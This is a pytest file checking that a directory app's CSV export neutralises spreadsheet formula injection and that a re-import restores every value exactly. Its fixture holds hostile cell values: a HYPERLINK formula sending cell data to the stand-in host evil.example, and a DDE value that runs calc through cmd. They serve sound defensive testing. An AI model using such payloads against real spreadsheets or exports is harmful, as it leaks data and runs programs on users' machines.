"""Issue 13 finding 8: the directory CSV must not carry spreadsheet formulas.

The attacker is any coordinator (or an imported file) who writes a service text that a
spreadsheet would run when an admin opens the export: ``=HYPERLINK(...)`` sends a click to
their site, ``=cmd|...`` runs a program in old spreadsheet software.
"""

from __future__ import annotations

import csv
import io

from dashboard_app import client_fixture, clock_fixture, context_fixture  # noqa: F401 - fixtures
from sqlalchemy import select
from web.dashboard_helpers import TILBURG_ORG, csrf_of, login

from bot.directory import csv_format
from bot.directory.models import Service

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
EVIL = {
    "description": '=HYPERLINK("https://evil.example/?d="&A2,"Klik hier")',
    "how_to_join": "@SUM(1+1)*cmd|' /C calc'!A0",
    "community_focus": "-2+3",
    "accessibility": "=1+1",
    "wait_time": "'=quoted already",
    "phone": "+31 13 123 45 67",
}


def _plant(context) -> str:
    """Write the attacker's texts into one of Tilburg's services; returns its id."""
    with context.database.session() as session:
        service = session.scalars(select(Service).where(Service.organisation_id == TILBURG_ORG)
                                  .order_by(Service.id)).first()
        for name, value in EVIL.items():
            setattr(service, name, value)
        return service.id


def test_no_exported_cell_starts_like_a_formula(client, context) -> None:
    service_id = _plant(context)
    login(client, "admin")
    text = client.get("/directory/export.csv").text
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if c.startswith(FORMULA_STARTS)] == []
    # The texts are there, as text: a leading apostrophe, which spreadsheets do not show.
    [row] = [r for r in csv.DictReader(io.StringIO(text)) if r["id"] == service_id]
    assert row["description"] == "'" + EVIL["description"]
    assert row["phone"] == "'+31 13 123 45 67"
    assert row["wait_time"] == "''=quoted already"


def test_importing_the_export_restores_every_value(client, context) -> None:
    service_id = _plant(context)
    login(client, "admin")
    exported = client.get("/directory/export.csv").content
    csrf = csrf_of(client.get("/directory/import").text)
    response = client.post("/directory/import", data={"csrf_token": csrf},
                           files={"file": ("export.csv", exported, "text/csv")})
    assert response.status_code == 200, response.text
    # Nothing changed: the round trip is exact.
    assert "services 0 created, 0 updated" in response.text
    with context.database.session() as session:
        service = session.get(Service, service_id)
        for name, value in EVIL.items():
            assert getattr(service, name) == value, name


def test_neutralise_and_restore_undo_each_other() -> None:
    values = ["=1+1", "+31", "-", "@x", "\tx", "\rx", "'", "''", "'=x", "'a", "a=b", "", "x'"]
    for value in values:
        cell = csv_format.neutralise(value)
        assert not cell.startswith(FORMULA_STARTS), value
        assert csv_format.restore(cell) == value, value
    # Cells that were never neutralised come back as they are.
    assert csv_format.restore("'hello") == "'hello"
